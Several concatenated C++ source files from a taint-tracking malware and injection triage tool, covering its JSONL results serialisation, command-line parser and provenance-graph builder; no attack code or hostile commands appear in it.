      .field("budget_exhausted", r.budget_exhausted)
      .field("prov_lists", static_cast<u64>(r.prov_lists))
      .field("tainted_bytes", r.tainted_bytes)
      .field("retries", r.retries)
      .field("error", r.error);
  // Per-rule eval/hit counts, in engine rule order. Only present when the
  // replay ran (empty on error/timeout/cancel), and identical whether the
  // ruleset came from the built-ins or an equivalent policy file — the
  // CI default-vs-file byte-diff depends on that.
  if (!r.rules.empty()) w.raw_field("rules", rules_json(r.rules));
  // Record-once/analyze-many verdicts, present only when extra policy sets
  // were configured — streams from single-policy runs stay byte-identical.
  if (!r.policy_runs.empty()) {
    w.raw_field("policy_runs", policy_runs_json(r.policy_runs));
  }
  // Graph-export fields are appended only when FarmConfig::graph_out was
  // set, so streams from runs without it stay byte-for-byte unchanged.
  if (r.graph_built) {
    w.field("graph_nodes", r.graph_nodes)
        .field("graph_edges", r.graph_edges)
        .field("graph_bytes", r.graph_bytes);
  }
  // Static-prefilter fields are appended only when the prefilter ran, so
  // streams from runs without --static-prefilter are byte-for-byte what
  // they were before the prefilter existed.
  if (r.sa_analyzed) {
    w.field("sa_images", r.sa_images)
        .field("sa_blocks", r.sa_blocks)
        .field("sa_findings", r.sa_findings)
        .field("sa_risk", r.sa_risk)
        .field("sa_flagged", r.sa_flagged)
        .raw_field("sa_rules", policies_json(r.sa_rules))
        .field("sa_verdict", r.static_verdict());
  }
  if (!r.sa_error.empty()) w.field("sa_error", r.sa_error);
  return w.str();
}

std::string summary_jsonl(const FarmMetrics& m) {
  JsonWriter w;
  w.field("type", "summary")
      .field("jobs", m.jobs)
      .field("ok", m.ok)
      .field("flagged", m.flagged)
      .field("clean", m.clean)
      .field("errors", m.errors)
      .field("timeouts", m.timeouts)
      .field("cancelled", m.cancelled)
      .field("instructions", m.instructions)
      .field("wall_s", m.wall_s)
      .field("jobs_per_s", m.jobs_per_s)
      .field("insns_per_s", m.insns_per_s)
      .field("p50_ms", m.p50_ms)
      .field("p95_ms", m.p95_ms)
      .field("record_s", m.record_s)
      .field("replay_s", m.replay_s);
  if (m.sa_analyzed) {
    w.field("sa_analyzed", m.sa_analyzed)
        .field("sa_flagged", m.sa_flagged)
        .field("static_s", m.static_s);
  }
  return w.str();
}

std::string results_jsonl(const TriageReport& report) {
  std::string out;
  for (const auto& r : report.results) {
    out += job_jsonl(r);
    out += '\n';
  }
  return out;
}

std::string job_metrics_jsonl(const JobResult& r) {
  JsonWriter w;
  w.field("type", "job_metrics").field("id", r.id).field("name", r.name);
  obs::append_counter_fields(w, r.metrics);
  return w.str();
}

std::string metrics_summary_jsonl(const TriageReport& report) {
  obs::MetricSnapshot total;
  u32 collected = 0;
  for (const auto& r : report.results) {
    if (!r.metrics.collected) continue;
    ++collected;
    total.merge(r.metrics);
  }
  // merge() also sums timer_ns; zero it so the (nondeterministic) timers
  // can never leak into this deterministic stream.
  total.timer_ns.fill(0);
  JsonWriter w;
  w.field("type", "metrics_summary").field("jobs_collected", collected);
  obs::append_counter_fields(w, total);
  return w.str();
}

std::string metrics_jsonl(const TriageReport& report) {
  std::string out;
  for (const auto& r : report.results) {
    if (!r.metrics.collected) continue;
    out += job_metrics_jsonl(r);
    out += '\n';
  }
  out += metrics_summary_jsonl(report);
  out += '\n';
  return out;
}

std::string summary_text(const FarmMetrics& m) {
  char buf[256];
  std::snprintf(buf, sizeof(buf),
                "%u jobs in %.2fs: %u flagged, %u clean, %u errors, "
                "%u timeouts, %u cancelled | %.1f jobs/s, %.2fM insns/s, "
                "latency p50 %.1fms p95 %.1fms",
                m.jobs, m.wall_s, m.flagged, m.clean, m.errors, m.timeouts,
                m.cancelled, m.jobs_per_s, m.insns_per_s / 1e6, m.p50_ms,
                m.p95_ms);
  return buf;
}

}  // namespace faros::farm
