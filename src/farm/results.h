// Results layer for the farm: deterministic JSONL serialisation of per-job
// records plus the run summary.
//
// The per-job record contains only fields that are a pure function of the
// JobSpec (verdict, findings, instruction counts) — wall-clock timing is
// deliberately excluded, so the concatenated job stream is byte-identical
// across worker counts and machines. Timing and throughput live in the
// summary record, which is explicitly nondeterministic.
#pragma once

#include <string>

#include "farm/farm.h"

namespace faros::farm {

/// One JSONL line (no trailing newline) for a job: deterministic fields
/// only. {"type":"job","id":...,"name":...,...}
std::string job_jsonl(const JobResult& r);

/// One JSONL line for the farm summary: counts + throughput + latency
/// percentiles. {"type":"summary",...}
std::string summary_jsonl(const FarmMetrics& m);

/// Every job record, in stable job-id order, newline-terminated. This is
/// the string the determinism tests compare across worker counts.
std::string results_jsonl(const TriageReport& report);

/// Human-readable one-line summary for consoles.
std::string summary_text(const FarmMetrics& m);

// --- metrics stream (obs counter snapshots; see src/obs/obs.h) ---
//
// Same contract as the results stream: per-job lines carry only counters,
// which are a pure function of the JobSpec, so the concatenated stream is
// byte-identical across worker counts. Wall-clock timers never appear.

/// One JSONL line for a job's counter snapshot:
/// {"type":"job_metrics","id":...,"name":...,"<ctr>":<n>,...}
std::string job_metrics_jsonl(const JobResult& r);

/// One JSONL line summing the counters of every collected job snapshot:
/// {"type":"metrics_summary","jobs_collected":...,"<ctr>":<n>,...}
std::string metrics_summary_jsonl(const TriageReport& report);

/// Per-job metric lines (jobs with a collected snapshot, ascending id)
/// followed by the summary line; newline-terminated. The string the
/// metrics determinism tests compare across worker counts.
std::string metrics_jsonl(const TriageReport& report);

}  // namespace faros::farm
