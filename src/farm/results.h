// Results layer for the farm: deterministic JSONL serialisation of per-job
// records plus the run summary.
//
// The per-job record contains only fields that are a pure function of the
// JobSpec (verdict, findings, instruction counts) — wall-clock timing is
// deliberately excluded, so the concatenated job stream is byte-identical
// across worker counts and machines. Timing and throughput live in the
// summary record, which is explicitly nondeterministic.
#pragma once

#include <string>

#include "farm/farm.h"

namespace faros::farm {

/// One JSONL line (no trailing newline) for a job: deterministic fields
/// only. {"type":"job","id":...,"name":...,...}
std::string job_jsonl(const JobResult& r);

/// One JSONL line for the farm summary: counts + throughput + latency
/// percentiles. {"type":"summary",...}
std::string summary_jsonl(const FarmMetrics& m);

/// Every job record, in stable job-id order, newline-terminated. This is
/// the string the determinism tests compare across worker counts.
std::string results_jsonl(const TriageReport& report);

/// Human-readable one-line summary for consoles.
std::string summary_text(const FarmMetrics& m);

}  // namespace faros::farm
