#include "farm/triage_cli.h"

#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "core/rules.h"

namespace faros::farm {

namespace {

// Every boolean feature goes through this table, which is what guarantees
// the `--X` / `--no-X` pairing: the parser derives both spellings from
// `name`, and render_triage_cli() walks the same table, so a flag cannot
// gain a positive form without its negative (or vice versa).
struct BoolFlag {
  const char* name;   // "block-cache" → --block-cache / --no-block-cache
  const char* no_alias;  // extra spelling for the negative form, or nullptr
  const char* help;
  void (*set)(TriageCliOptions&, bool);
  bool (*get)(const TriageCliOptions&);
};

constexpr BoolFlag kBoolFlags[] = {
    {"block-cache", nullptr,
     "per-CR3 block-translation cache in both machines plus the engine's\n"
     "                   elision fast path (default: on; verdicts are\n"
     "                   byte-identical either way; CI pins this)",
     [](TriageCliOptions& o, bool v) {
       o.farm.machine.kernel.block_cache = v;
       o.farm.engine_opts.block_cache = v;
     },
     [](const TriageCliOptions& o) { return o.farm.engine_opts.block_cache; }},
    {"summary-elide", nullptr,
     "static summary elide hints; off = only per-opcode taint-inert\n"
     "                   blocks run the uninstrumented fast body (default:\n"
     "                   on; byte-identical verdicts; CI pins this)",
     [](TriageCliOptions& o, bool v) { o.farm.engine_opts.summary_elide = v; },
     [](const TriageCliOptions& o) {
       return o.farm.engine_opts.summary_elide;
     }},
    {"snapshot", nullptr,
     "boot the guest once and run each job as a copy-on-write clone of\n"
     "                   the frozen image (default: on; byte-identical\n"
     "                   verdicts; CI pins this)",
     [](TriageCliOptions& o, bool v) { o.farm.snapshot = v; },
     [](const TriageCliOptions& o) { return o.farm.snapshot; }},
    {"static-prefilter", nullptr,
     "run the zero-execution static analyzer (src/sa) per job before\n"
     "                   record/replay and score it next to the dynamic\n"
     "                   verdicts (default: off)",
     [](TriageCliOptions& o, bool v) { o.farm.static_prefilter = v; },
     [](const TriageCliOptions& o) { return o.farm.static_prefilter; }},
    {"static-prune", nullptr,
     "mask rule triggers the static analyzer proved unreachable per\n"
     "                   job, skipping their hot-path input computation\n"
     "                   (default: off; byte-identical detection and\n"
     "                   per-rule eval counts; CI pins this)",
     [](TriageCliOptions& o, bool v) { o.farm.static_prune = v; },
     [](const TriageCliOptions& o) { return o.farm.static_prune; }},
    {"async-dift", "sync-dift",
     "decoupled producer/consumer taint pipeline (core/pipeline.h):\n"
     "                   the interpreter streams event records to consumer\n"
     "                   threads that replay propagation. --sync-dift keeps\n"
     "                   the historical inline engine (default: async;\n"
     "                   byte-identical verdicts; CI pins this)",
     [](TriageCliOptions& o, bool v) { o.farm.async_dift = v; },
     [](const TriageCliOptions& o) { return o.farm.async_dift; }},
    {"quiet", nullptr, "suppress the per-job console lines (default: off)",
     [](TriageCliOptions& o, bool v) { o.quiet = v; },
     [](const TriageCliOptions& o) { return o.quiet; }},
};

bool parse_u64(const std::string& s, u64* out) {
  if (s.empty()) return false;
  char* end = nullptr;
  unsigned long long v = std::strtoull(s.c_str(), &end, 10);
  if (!end || *end != '\0') return false;
  *out = v;
  return true;
}

std::vector<std::string> split_csv(const std::string& s) {
  std::vector<std::string> out;
  size_t start = 0;
  while (start <= s.size()) {
    size_t comma = s.find(',', start);
    if (comma == std::string::npos) comma = s.size();
    if (comma > start) out.push_back(s.substr(start, comma - start));
    start = comma + 1;
  }
  return out;
}

/// "dir/cross_proc.json" → "cross_proc" — the PolicySet label carried into
/// every JobResult::PolicyRun and the policy_runs JSONL field.
std::string path_stem(const std::string& path) {
  size_t slash = path.find_last_of("/\\");
  size_t base = slash == std::string::npos ? 0 : slash + 1;
  size_t dot = path.find_last_of('.');
  if (dot == std::string::npos || dot <= base) dot = path.size();
  return path.substr(base, dot - base);
}

}  // namespace

TriageCliResult parse_triage_cli(const std::vector<std::string>& args) {
  TriageCliResult r;
  TriageCliOptions& o = r.opts;
  if (const char* env = std::getenv("FAROS_METRICS_JSON")) {
    o.metrics_path = env;
  }

  u64 workers = 0, ring_capacity = 0;
  for (size_t i = 0; i < args.size() && r.ok(); ++i) {
    const std::string& arg = args[i];
    auto next_str = [&](std::string* out) {
      if (i + 1 >= args.size()) {
        r.error = arg + " needs a value";
        return;
      }
      *out = args[++i];
    };
    auto next_u64 = [&](u64* out) {
      if (i + 1 >= args.size() || !parse_u64(args[i + 1], out)) {
        r.error = arg + " needs a number";
        return;
      }
      ++i;
    };

    if (arg == "--help" || arg == "-h") { o.help = true; continue; }
    if (arg == "--list") { o.list_only = true; continue; }
    if (arg == "--list-policies") { o.list_policies = true; continue; }
    if (arg == "--workers") { next_u64(&workers); continue; }
    if (arg == "--jobs") { next_u64(&o.max_jobs); continue; }
    if (arg == "--timeout-ms") { next_u64(&o.farm.timeout_ms); continue; }
    if (arg == "--budget") { next_u64(&o.budget); continue; }
    if (arg == "--ring-capacity") { next_u64(&ring_capacity); continue; }
    if (arg == "--filter") { next_str(&o.filter); continue; }
    if (arg == "--category") { next_str(&o.category); continue; }
    if (arg == "--out") { next_str(&o.out_path); continue; }
    if (arg == "--metrics") { next_str(&o.metrics_path); continue; }
    if (arg == "--graph-out") { next_str(&o.farm.graph_out); continue; }
    if (arg == "--policies") {
      std::string csv;
      next_str(&csv);
      if (r.ok()) o.policy_paths = split_csv(csv);
      continue;
    }

    bool matched = false;
    for (const BoolFlag& f : kBoolFlags) {
      if (arg == std::string("--") + f.name) {
        f.set(o, true);
        matched = true;
      } else if (arg == std::string("--no-") + f.name ||
                 (f.no_alias && arg == std::string("--") + f.no_alias)) {
        f.set(o, false);
        matched = true;
      }
      if (matched) break;
    }
    if (!matched) r.error = "unknown option '" + arg + "'";
  }
  if (r.ok()) {
    o.farm.workers = static_cast<u32>(workers);
    o.farm.ring_capacity = static_cast<size_t>(ring_capacity);
  }
  return r;
}

std::string triage_usage() {
  std::string out =
      "usage: faros_triage [options]\n"
      "\n"
      "corpus selection:\n"
      "  --jobs N         run at most N jobs (default: all)\n"
      "  --filter STR     only jobs whose name contains STR\n"
      "  --category STR   only jobs in this category\n"
      "                   (injection | jit | malware | benign | policy)\n"
      "  --list           print the job catalogue and exit\n"
      "\n"
      "execution:\n"
      "  --workers N      worker threads (default: hardware)\n"
      "  --timeout-ms N   per-job wall-clock deadline (default 60000;\n"
      "                   0 = none)\n"
      "  --budget N       per-job instruction budget override\n"
      "  --ring-capacity N\n"
      "                   trace-ring slots per DIFT consumer (rounded up\n"
      "                   to a power of two; default 16384; small values\n"
      "                   exercise backpressure)\n"
      "\n"
      "policies:\n"
      "  --policies A[,B,...]\n"
      "                   load confluence rulesets from JSON policy files.\n"
      "                   The first replaces the built-ins; each further\n"
      "                   file runs record-once/analyze-many against the\n"
      "                   same replay (one verdict per set in the\n"
      "                   policy_runs JSONL field). Also adds the\n"
      "                   policy-corpus jobs.\n"
      "  --list-policies  print the effective primary ruleset as\n"
      "                   policy-file JSON and exit\n"
      "\n"
      "output:\n"
      "  --out PATH       write JSONL records + summary to PATH\n"
      "  --metrics PATH   write per-job obs counter JSONL to PATH\n"
      "                   (or set FAROS_METRICS_JSON)\n"
      "  --graph-out DIR  write one provenance-graph artifact per job to\n"
      "                   DIR/<job>.fpg (src/graph format; byte-identical\n"
      "                   for any --workers)\n"
      "\n"
      "features (every switch has a paired --X / --no-X form):\n";
  for (const BoolFlag& f : kBoolFlags) {
    out += "  --";
    out += f.name;
    out += " / --no-";
    out += f.name;
    if (f.no_alias) {
      out += " (alias --";
      out += f.no_alias;
      out += ")";
    }
    out += "\n                   ";
    out += f.help;
    out += "\n";
  }
  return out;
}

std::vector<std::string> render_triage_cli(const TriageCliOptions& o) {
  const TriageCliOptions def;
  std::vector<std::string> out;
  auto num = [](u64 v) { return std::to_string(v); };

  if (o.max_jobs) { out.push_back("--jobs"); out.push_back(num(o.max_jobs)); }
  if (!o.filter.empty()) { out.push_back("--filter"); out.push_back(o.filter); }
  if (!o.category.empty()) {
    out.push_back("--category");
    out.push_back(o.category);
  }
  if (o.farm.workers) {
    out.push_back("--workers");
    out.push_back(num(o.farm.workers));
  }
  if (o.farm.timeout_ms != def.farm.timeout_ms) {
    out.push_back("--timeout-ms");
    out.push_back(num(o.farm.timeout_ms));
  }
  if (o.budget) { out.push_back("--budget"); out.push_back(num(o.budget)); }
  if (o.farm.ring_capacity) {
    out.push_back("--ring-capacity");
    out.push_back(num(o.farm.ring_capacity));
  }
  if (!o.policy_paths.empty()) {
    std::string csv;
    for (size_t i = 0; i < o.policy_paths.size(); ++i) {
      if (i) csv += ',';
      csv += o.policy_paths[i];
    }
    out.push_back("--policies");
    out.push_back(csv);
  }
  if (!o.out_path.empty()) { out.push_back("--out"); out.push_back(o.out_path); }
  if (!o.metrics_path.empty()) {
    out.push_back("--metrics");
    out.push_back(o.metrics_path);
  }
  if (!o.farm.graph_out.empty()) {
    out.push_back("--graph-out");
    out.push_back(o.farm.graph_out);
  }
  // Boolean features are always rendered explicitly — the canonical argv is
  // self-describing even if a default flips later. The negative spelling
  // prefers the alias (--sync-dift) where one exists.
  for (const BoolFlag& f : kBoolFlags) {
    if (f.get(o)) {
      out.push_back(std::string("--") + f.name);
    } else if (f.no_alias) {
      out.push_back(std::string("--") + f.no_alias);
    } else {
      out.push_back(std::string("--no-") + f.name);
    }
  }
  if (o.list_only) out.push_back("--list");
  if (o.list_policies) out.push_back("--list-policies");
  return out;
}

std::string load_policy_files(TriageCliOptions& o) {
  for (size_t i = 0; i < o.policy_paths.size(); ++i) {
    const std::string& path = o.policy_paths[i];
    FILE* pf = std::fopen(path.c_str(), "rb");
    if (!pf) return "cannot open '" + path + "'";
    std::string text;
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof(buf), pf)) > 0) text.append(buf, n);
    std::fclose(pf);
    auto rules = core::parse_ruleset_json(text);
    if (!rules.ok()) return path + ": " + rules.error().message;
    if (i == 0) {
      o.farm.engine_opts.rules = std::move(rules).take();
    } else {
      o.farm.extra_policies.push_back(
          PolicySet{path_stem(path), std::move(rules).take()});
    }
  }
  return "";
}

}  // namespace faros::farm
