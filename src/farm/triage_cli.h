// faros_triage command-line surface, as a library.
//
// Lives in src/farm (not tools/) so tests can exercise the exact parser
// the shipped binary uses: every boolean feature is a `--X` / `--no-X`
// pair over an explicit flag table, and render_triage_cli() serialises a
// parsed configuration back into canonical argv form — the round-trip
// property (parse ∘ render ∘ parse = parse) is pinned by test_farm.
#pragma once

#include <string>
#include <vector>

#include "farm/farm.h"

namespace faros::farm {

/// Everything the faros_triage binary needs after argv is parsed.
struct TriageCliOptions {
  FarmConfig farm;

  // Corpus selection.
  std::string filter;
  std::string category;
  u64 max_jobs = 0;
  u64 budget = 0;

  // Output.
  std::string out_path;
  std::string metrics_path;
  bool quiet = false;

  // Policy files (--policies a.json,b.json): the first replaces the
  // built-in ruleset; the rest run as record-once/analyze-many extras
  // (FarmConfig::extra_policies) once loaded by load_policy_files().
  std::vector<std::string> policy_paths;

  // Modes that short-circuit the run.
  bool list_only = false;
  bool list_policies = false;
  bool help = false;
};

struct TriageCliResult {
  TriageCliOptions opts;
  std::string error;  // non-empty = parse failed (message for stderr)
  bool ok() const { return error.empty(); }
};

/// Parses an argv tail (excluding argv[0]). Never exits, never prints —
/// callers decide what to do with `error` / `opts.help`.
TriageCliResult parse_triage_cli(const std::vector<std::string>& args);

/// Grouped usage text for --help.
std::string triage_usage();

/// Canonical argv form of `o`: every boolean feature appears as its
/// explicit `--X`/`--no-X` spelling, value flags appear when set. Feeding
/// the result back through parse_triage_cli() reproduces `o`'s
/// farm-relevant configuration exactly.
std::vector<std::string> render_triage_cli(const TriageCliOptions& o);

/// Loads the files named by `policy_paths` into `o.farm`: the first file
/// replaces engine_opts.rules, each further file appends a PolicySet named
/// after the file's basename stem. Returns an error message, or "" on
/// success (also when there is nothing to load).
std::string load_policy_files(TriageCliOptions& o);

}  // namespace faros::farm
