#include "graph/graph.h"

#include <algorithm>
#include <map>
#include <unordered_map>

#include "common/json.h"
#include "common/strings.h"
#include "core/analyst.h"
#include "core/report.h"
#include "os/process.h"

namespace faros::graph {

const char* node_type_name(NodeType t) {
  switch (t) {
    case NodeType::kNetflow: return "netflow";
    case NodeType::kProcess: return "process";
    case NodeType::kFile: return "file";
    case NodeType::kModule: return "module";
    case NodeType::kRegion: return "region";
    case NodeType::kFinding: return "finding";
  }
  return "?";
}

const char* edge_type_name(EdgeType t) {
  switch (t) {
    case EdgeType::kDerivedFrom: return "derived-from";
    case EdgeType::kWroteInto: return "wrote-into";
    case EdgeType::kFetchedBy: return "fetched-by";
    case EdgeType::kSpawned: return "spawned";
    case EdgeType::kFlagged: return "flagged";
  }
  return "?";
}

bool edge_flows_forward(EdgeType t) {
  switch (t) {
    case EdgeType::kDerivedFrom:
    case EdgeType::kFlagged:
      return false;  // stored sink -> source; data flows dst -> src
    case EdgeType::kWroteInto:
    case EdgeType::kFetchedBy:
    case EdgeType::kSpawned:
      return true;
  }
  return true;
}

size_t ProvGraph::count(NodeType t) const {
  size_t n = 0;
  for (const Node& node : nodes) {
    if (node.type == t) ++n;
  }
  return n;
}

std::optional<u32> ProvGraph::node_id(NodeType t, u32 index) const {
  // Nodes are type-major, so a linear scan finds the run quickly; graphs
  // are per-job and small.
  for (u32 i = 0; i < nodes.size(); ++i) {
    if (nodes[i].type == t && nodes[i].index == index) return i;
  }
  return std::nullopt;
}

std::string ProvGraph::ref(u32 node_id) const {
  if (node_id >= nodes.size()) return "?";
  const Node& n = nodes[node_id];
  return strf("%s:%u", node_type_name(n.type), n.index);
}

Result<std::pair<NodeType, u32>> parse_node_ref(const std::string& ref) {
  auto colon = ref.find(':');
  if (colon == std::string::npos || colon + 1 >= ref.size()) {
    return Err<std::pair<NodeType, u32>>("node ref must be '<type>:<index>'");
  }
  std::string type_s = ref.substr(0, colon);
  NodeType type = NodeType::kNetflow;
  bool found = false;
  for (u32 t = 0; t < kNodeTypeCount; ++t) {
    if (type_s == node_type_name(static_cast<NodeType>(t))) {
      type = static_cast<NodeType>(t);
      found = true;
      break;
    }
  }
  if (!found) {
    return Err<std::pair<NodeType, u32>>("unknown node type '" + type_s + "'");
  }
  u32 index = 0;
  for (size_t i = colon + 1; i < ref.size(); ++i) {
    char c = ref[i];
    if (c < '0' || c > '9') {
      return Err<std::pair<NodeType, u32>>("bad node index in '" + ref + "'");
    }
    index = index * 10 + static_cast<u32>(c - '0');
  }
  return std::make_pair(type, index);
}

// ---------------------------------------------------------------------------
// Builder.

namespace {

/// Per-tag reference counts over every interned list (the ProvStore walk):
/// how many distinct provenance lists mention each netflow/file tag, plus
/// the export-table tag. Stored in node payload `c` as a quick "how hot is
/// this source" analyst signal.
struct TagRefCounts {
  std::unordered_map<u16, u64> netflow;
  std::unordered_map<u16, u64> file;
  u64 export_table = 0;
};

TagRefCounts count_tag_refs(const core::ProvStore& store) {
  TagRefCounts counts;
  store.for_each_list([&](core::ProvListId, const std::vector<core::ProvTag>& tags) {
    for (const core::ProvTag& tag : tags) {
      switch (tag.type()) {
        case core::TagType::kNetflow: ++counts.netflow[tag.index()]; break;
        case core::TagType::kFile: ++counts.file[tag.index()]; break;
        case core::TagType::kExportTable: ++counts.export_table; break;
        case core::TagType::kProcess: break;
      }
    }
  });
  return counts;
}

struct Builder {
  const core::FarosEngine& engine;
  const os::Kernel& kernel;
  ProvGraph g;
  std::map<u32, u32> process_node_by_pid;  // pid -> global node id
  u32 export_module_node = 0;              // synthetic export-tables node
  std::vector<Edge> raw_edges;

  void add_edge(EdgeType type, u32 src, u32 dst, u32 aux) {
    raw_edges.push_back(Edge{type, src, dst, aux});
  }

  /// derived-from / wrote-into edges for every tag of list `prov`, with
  /// `sink` as the tainted artifact (region or finding node). The chain
  /// position rides along in aux so a slice can reconstruct Figure-4 order.
  void add_prov_edges(u32 sink, core::ProvListId prov) {
    const auto& tags = engine.store().get(prov);
    for (u32 pos = 0; pos < tags.size(); ++pos) {
      const core::ProvTag& tag = tags[pos];
      switch (tag.type()) {
        case core::TagType::kNetflow: {
          auto id = g.node_id(NodeType::kNetflow, tag.index());
          if (id) add_edge(EdgeType::kDerivedFrom, sink, *id, pos);
          break;
        }
        case core::TagType::kFile: {
          auto id = g.node_id(NodeType::kFile, tag.index());
          if (id) add_edge(EdgeType::kDerivedFrom, sink, *id, pos);
          break;
        }
        case core::TagType::kExportTable:
          add_edge(EdgeType::kDerivedFrom, sink, export_module_node, pos);
          break;
        case core::TagType::kProcess: {
          // Process tags name who moved the bytes: process -> sink.
          const auto& entry = engine.maps().process.get(tag.index());
          auto it = process_node_by_pid.find(entry.pid);
          if (it != process_node_by_pid.end()) {
            add_edge(EdgeType::kWroteInto, it->second, sink, pos);
          }
          break;
        }
      }
    }
  }

  void build_netflow_nodes(const TagRefCounts& refs) {
    const core::NetflowMap& map = engine.maps().netflow;
    for (u16 i = 0; i < map.size(); ++i) {
      const FlowTuple& flow = map.get(i);
      Node n;
      n.type = NodeType::kNetflow;
      n.index = i;
      n.name = strf("%s:%u->%s:%u", ipv4_to_string(flow.src_ip).c_str(),
                    flow.src_port, ipv4_to_string(flow.dst_ip).c_str(),
                    flow.dst_port);
      n.detail = flow.to_string();
      n.a = (static_cast<u64>(flow.src_ip) << 16) | flow.src_port;
      n.b = (static_cast<u64>(flow.dst_ip) << 16) | flow.dst_port;
      auto it = refs.netflow.find(i);
      n.c = it == refs.netflow.end() ? 0 : it->second;
      g.nodes.push_back(std::move(n));
    }
  }

  void build_process_nodes() {
    // First the interned processes in tag-index order (so process node
    // index == process tag index for everything provenance mentions), then
    // kernel processes the engine never tagged, in pid order.
    const core::ProcessMap& map = engine.maps().process;
    for (u16 i = 0; i < map.size(); ++i) {
      const core::ProcessMap::Entry& e = map.get(i);
      const os::Process* p = kernel.find(e.pid);
      Node n;
      n.type = NodeType::kProcess;
      n.index = static_cast<u32>(g.count(NodeType::kProcess));
      n.name = e.name;
      n.detail = strf("pid %u%s", e.pid,
                      p && p->alive() ? "" : " (exited)");
      n.a = e.pid;
      n.b = e.cr3;
      n.c = p ? p->parent : 0;
      process_node_by_pid.emplace(e.pid, static_cast<u32>(g.nodes.size()));
      g.nodes.push_back(std::move(n));
    }
    for (const auto& info : kernel.process_list()) {
      if (process_node_by_pid.count(info.pid)) continue;
      const os::Process* p = kernel.find(info.pid);
      Node n;
      n.type = NodeType::kProcess;
      n.index = static_cast<u32>(g.count(NodeType::kProcess));
      n.name = info.name;
      n.detail = strf("pid %u%s", info.pid,
                      p && p->alive() ? "" : " (exited)");
      n.a = info.pid;
      n.b = info.cr3;
      n.c = info.parent_pid;
      process_node_by_pid.emplace(info.pid, static_cast<u32>(g.nodes.size()));
      g.nodes.push_back(std::move(n));
    }
  }

  void build_file_nodes(const TagRefCounts& refs) {
    const core::FileMap& map = engine.maps().file;
    for (u16 i = 0; i < map.size(); ++i) {
      const core::FileMap::Entry& e = map.get(i);
      Node n;
      n.type = NodeType::kFile;
      n.index = i;
      n.name = e.name;
      n.detail = strf("v%u", e.version);
      n.a = e.file_id;
      n.b = e.version;
      auto it = refs.file.find(i);
      n.c = it == refs.file.end() ? 0 : it->second;
      g.nodes.push_back(std::move(n));
    }
  }

  void build_module_nodes(const TagRefCounts& refs) {
    u32 index = 0;
    for (const osi::ModuleInfo& mod : kernel.modules()) {
      Node n;
      n.type = NodeType::kModule;
      n.index = index++;
      n.name = mod.name;
      n.detail = strf("base %s", hex64(mod.base).c_str());
      n.a = mod.base;
      n.b = mod.size;
      n.c = mod.export_count;
      g.nodes.push_back(std::move(n));
    }
    // The export-table tag carries no payload (paper Figure 6), so every
    // export-table reference resolves to this one synthetic target.
    Node n;
    n.type = NodeType::kModule;
    n.index = index;
    n.name = "export-tables";
    n.detail = "synthetic target of export-table tags";
    n.c = refs.export_table;
    export_module_node = static_cast<u32>(g.nodes.size());
    g.nodes.push_back(std::move(n));
  }

  void build_region_nodes() {
    // Exactly core::taint_map's walk, so region node k is the range the
    // taint map labels "region:k" — the cross-link contract.
    for (const auto& info : kernel.process_list()) {
      const os::Process* p = kernel.find(info.pid);
      if (!p || !p->alive()) continue;
      for (const auto& region : p->regions) {
        auto ranges = core::tainted_regions(engine, p->as, region.base,
                                            region.base + region.len);
        for (const auto& r : ranges) {
          Node n;
          n.type = NodeType::kRegion;
          n.index = static_cast<u32>(g.count(NodeType::kRegion));
          n.name = strf("%s %s", info.name.c_str(), hex32(r.start).c_str());
          n.detail = strf("+%u [%s] %s", r.len,
                          os::region_kind_name(region.kind),
                          core::render_chain(engine.store(), engine.maps(),
                                             r.prov)
                              .c_str());
          n.a = r.start;
          n.b = (static_cast<u64>(info.pid) << 32) | r.len;
          n.c = r.prov;
          u32 id = static_cast<u32>(g.nodes.size());
          g.nodes.push_back(std::move(n));
          add_prov_edges(id, r.prov);
        }
      }
    }
  }

  void build_finding_nodes() {
    const auto& findings = engine.findings();
    for (u32 i = 0; i < findings.size(); ++i) {
      const core::Finding& f = findings[i];
      Node n;
      n.type = NodeType::kFinding;
      n.index = i;
      n.name = f.policy;
      n.detail = strf("%s @ %s in %s", f.disasm.c_str(),
                      hex32(f.insn_va).c_str(), f.proc.name.c_str());
      n.a = f.insn_va;
      n.b = f.instr_index;
      n.c = (static_cast<u64>(f.whitelisted) << 1) |
            static_cast<u64>(f.warn_only);
      u32 id = static_cast<u32>(g.nodes.size());
      g.nodes.push_back(std::move(n));

      // Direct provenance edges from both lists: even when the payload was
      // transient (erased, exited process) the finding still anchors the
      // full origin chain.
      add_prov_edges(id, f.fetch_prov);
      add_prov_edges(id, f.target_prov);

      auto pit = process_node_by_pid.find(f.proc.pid);
      if (pit != process_node_by_pid.end()) {
        add_edge(EdgeType::kFetchedBy, id, pit->second, 0);
      }
      // The tainted region holding the flagged pc, if it still exists.
      for (u32 r = 0; r < g.nodes.size(); ++r) {
        const Node& rn = g.nodes[r];
        if (rn.type != NodeType::kRegion) continue;
        u32 owner_pid = static_cast<u32>(rn.b >> 32);
        u32 len = static_cast<u32>(rn.b & 0xffffffffu);
        if (owner_pid == f.proc.pid && f.insn_va >= rn.a &&
            f.insn_va < rn.a + len) {
          add_edge(EdgeType::kFlagged, id, r, 0);
          break;
        }
      }
    }
  }

  void build_spawn_edges() {
    for (const auto& [pid, node_id] : process_node_by_pid) {
      const os::Process* p = kernel.find(pid);
      if (!p || p->parent == 0) continue;
      auto parent = process_node_by_pid.find(p->parent);
      if (parent != process_node_by_pid.end()) {
        add_edge(EdgeType::kSpawned, parent->second, node_id, 0);
      }
    }
  }

  void finish_edges() {
    // Dedup on (type, src, dst) keeping the smallest chain position, then
    // a total order — the byte-determinism contract.
    std::sort(raw_edges.begin(), raw_edges.end(),
              [](const Edge& x, const Edge& y) {
                return std::tie(x.type, x.src, x.dst, x.aux) <
                       std::tie(y.type, y.src, y.dst, y.aux);
              });
    for (const Edge& e : raw_edges) {
      if (!g.edges.empty()) {
        const Edge& last = g.edges.back();
        if (last.type == e.type && last.src == e.src && last.dst == e.dst) {
          continue;
        }
      }
      g.edges.push_back(e);
    }
  }
};

}  // namespace

ProvGraph build_graph(const core::FarosEngine& engine,
                      const os::Kernel& kernel) {
  Builder b{engine, kernel, {}, {}, 0, {}};
  TagRefCounts refs = count_tag_refs(engine.store());
  b.build_netflow_nodes(refs);
  b.build_process_nodes();
  b.build_file_nodes(refs);
  b.build_module_nodes(refs);
  b.build_region_nodes();
  b.build_finding_nodes();
  b.build_spawn_edges();
  b.finish_edges();
  return std::move(b.g);
}

// ---------------------------------------------------------------------------
// On-disk format: "FPG1", string table, nodes, edges.

